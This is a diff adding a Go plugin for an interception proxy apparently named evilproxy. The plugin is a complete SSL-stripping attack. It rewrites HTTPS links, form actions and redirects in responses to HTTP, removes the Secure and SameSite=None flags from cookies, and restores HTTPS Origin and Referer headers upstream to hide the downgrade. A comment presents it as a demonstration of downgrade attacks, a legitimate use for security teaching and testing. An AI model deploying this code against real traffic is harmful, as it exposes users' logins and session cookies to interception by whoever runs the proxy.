@@ -0,0 +1,257 @@
+/**
+ * SSLStrip plugin downgrades HTTPS links and redirects to HTTP
+ *
+ * Copyright 2018 Ryan Kurte
+ */
+
+package plugins
+
+import (
+	"bytes"
+	"mime"
+	"net/http"
+	"sort"
+	"strings"
+	"sync"
+
+	"golang.org/x/net/html"
+	"golang.org/x/net/html/atom"
+
+	"github.com/ryankurte/evilproxy/lib/flow"
+)
+
+// SSLStrip plugin rewrites https:// links (a, area and base hrefs), form actions and Location
+// redirects in responses to http://, for demonstrating downgrade attacks. Downgraded hosts are
+// recorded so plain requests to these can be upgraded when forwarded upstream (see Upgrade), and
+// Origin and Referer headers are restored to https:// on requests to these hosts.
+//
+// Secure flags (and SameSite=None, which requires Secure) are removed from cookies set by
+// downgraded hosts so these are sent over plain connections. This should be paired with the HSTS
+// plugin, as clients that have seen HSTS headers will upgrade requests themselves.
+type SSLStrip struct {
+	base
+	lock  sync.RWMutex
+	hosts map[string]bool
+}
+
+// sslStripMaxHosts bounds the downgraded hosts recorded, as links are downgraded for any host in a response
+const sslStripMaxHosts = 10000
+
+// NewSSLStrip creates a new instance of the SSL strip plugin
+func NewSSLStrip() *SSLStrip {
+	return &SSLStrip{
+		base:  newBase("sslstrip"),
+		hosts: make(map[string]bool),
+	}
+}
+
+// Upgrade checks whether plain requests to a host (with optional port) should be upgraded to HTTPS
+func (s *SSLStrip) Upgrade(host string) bool {
+	s.lock.RLock()
+	defer s.lock.RUnlock()
+
+	return s.hosts[normaliseHost(host)]
+}
+
+// Hosts lists the hosts for which links have been downgraded
+func (s *SSLStrip) Hosts() []string {
+	s.lock.RLock()
+	defer s.lock.RUnlock()
+
+	hosts := make([]string, 0, len(s.hosts))
+	for h := range s.hosts {
+		hosts = append(hosts, h)
+	}
+	sort.Strings(hosts)
+	return hosts
+}
+
+// ProcessRequest restores the scheme of Origin and Referer headers on requests to downgraded hosts
+func (s *SSLStrip) ProcessRequest(ctx interface{}, header http.Header, body string) (http.Header, string) {
+	for _, k := range []string{"Origin", "Referer"} {
+		v := header.Get(k)
+		if len(v) < len("http://") || !strings.EqualFold(v[:len("http://")], "http://") {
+			continue
+		}
+		rest := v[len("http://"):]
+		if s.Upgrade(authority(rest)) {
+			header.Set(k, "https://"+rest)
+		}
+	}
+
+	return header, body
+}
+
+// ProcessResponse downgrades redirects, cookies and HTML links
+func (s *SSLStrip) ProcessResponse(ctx interface{}, header http.Header, body string) (http.Header, string) {
+	if l := header.Get("Location"); l != "" {
+		if stripped, ok := s.strip(l); ok {
+			header.Set("Location", stripped)
+			s.annotate(ctx, "downgraded redirect to %s", stripped)
+		}
+	}
+
+	if cookies := header["Set-Cookie"]; len(cookies) > 0 && s.downgraded(ctx) {
+		n := 0
+		for i, c := range cookies {
+			if v, ok := insecureCookie(c); ok {
+				cookies[i] = v
+				n++
+			}
+		}
+		if n > 0 {
+			s.annotate(ctx, "removed secure flag from %d cookie(s)", n)
+		}
+	}
+
+	t, _, _ := mime.ParseMediaType(header.Get("Content-Type"))
+	if t == "text/html" || t == "application/xhtml+xml" {
+		if b, n := s.rewriteLinks(body); n > 0 {
+			body = b
+			s.annotate(ctx, "downgraded %d link(s)", n)
+		}
+	}
+
+	return header, body
+}
+
+// downgraded checks whether the flow is for a downgraded host, responses without flows are always downgraded
+func (s *SSLStrip) downgraded(ctx interface{}) bool {
+	f, ok := ctx.(*flow.Flow)
+	if !ok || f.Request == nil {
+		return true
+	}
+	return s.Upgrade(f.Request.URL.Host)
+}
+
+// strip rewrites an https:// URL to http://, recording the host
+func (s *SSLStrip) strip(u string) (string, bool) {
+	if len(u) < len("https://") || !strings.EqualFold(u[:len("https://")], "https://") {
+		return u, false
+	}
+	rest := u[len("https://"):]
+
+	host := normaliseHost(authority(rest))
+	if host == "" {
+		return u, false
+	}
+
+	s.lock.Lock()
+	if !s.hosts[host] {
+		// Evict an arbitrary host where full, requests to this are no longer upgraded
+		if len(s.hosts) >= sslStripMaxHosts {
+			for k := range s.hosts {
+				delete(s.hosts, k)
+				break
+			}
+		}
+		s.hosts[host] = true
+		s.WithField("host", host).Printf("downgrading")
+	}
+	s.lock.Unlock()
+
+	return "http://" + rest, true
+}
+
+// strippedAttrs are the link and form action attributes downgraded by element
+var strippedAttrs = map[atom.Atom]string{
+	atom.A:      "href",
+	atom.Area:   "href",
+	atom.Base:   "href",
+	atom.Form:   "action",
+	atom.Button: "formaction",
+	atom.Input:  "formaction",
+}
+
+// rewriteLinks downgrades links and form actions, returning the number of attributes modified
+// Documents are tokenized so URLs in scripts, comments or other attributes are not affected.
+func (s *SSLStrip) rewriteLinks(body string) (string, int) {
+	if !strings.Contains(strings.ToLower(body), "https://") {
+		return body, 0
+	}
+
+	z := html.NewTokenizer(strings.NewReader(body))
+	out := bytes.NewBuffer(make([]byte, 0, len(body)))
+	n := 0
+
+	for {
+		tt := z.Next()
+		if tt == html.ErrorToken {
+			out.Write(z.Raw())
+			break
+		}
+		raw := append([]byte(nil), z.Raw()...)
+
+		if tt != html.StartTagToken && tt != html.SelfClosingTagToken {
+			out.Write(raw)
+			continue
+		}
+
+		t := z.Token()
+		key, ok := strippedAttrs[t.DataAtom]
+		if !ok {
+			out.Write(raw)
+			continue
+		}
+
+		modified := false
+		for i, a := range t.Attr {
+			if strings.ToLower(a.Key) != key {
+				continue
+			}
+			if v, ok := s.strip(strings.TrimSpace(a.Val)); ok {
+				t.Attr[i].Val = v
+				modified = true
+			}
+		}
+
+		if modified {
+			out.WriteString(t.String())
+			n++
+		} else {
+			out.Write(raw)
+		}
+	}
+
+	return out.String(), n
+}
+
+// authority fetches the host (and port) from a URL without a scheme
+func authority(rest string) string {
+	if i := strings.IndexAny(rest, "/?#"); i >= 0 {
+		rest = rest[:i]
+	}
+	if i := strings.LastIndex(rest, "@"); i >= 0 {
+		rest = rest[i+1:]
+	}
+	return rest
+}
+
+// normaliseHost lowercases a host and removes default ports, so hosts from downgraded
+// https:// links match the hosts of plain requests to these (with or without ports)
+func normaliseHost(host string) string {
+	host = strings.ToLower(host)
+	for _, port := range []string{":80", ":443"} {
+		if strings.HasSuffix(host, port) {
+			return strings.TrimSuffix(host, port)
+		}
+	}
+	return host
+}
+
+// insecureCookie removes the Secure and SameSite=None attributes from a Set-Cookie value
+func insecureCookie(cookie string) (string, bool) {
+	c, ok := parseSetCookie(cookie)
+	if !ok {
+		return cookie, false
+	}
+
+	removed := c.del("Secure")
+	if v, _ := c.get("SameSite"); strings.EqualFold(v, "none") {
+		removed = c.del("SameSite") || removed
+	}
+	if !removed {
+		return cookie, false
+	}
+	return c.String(), true
+}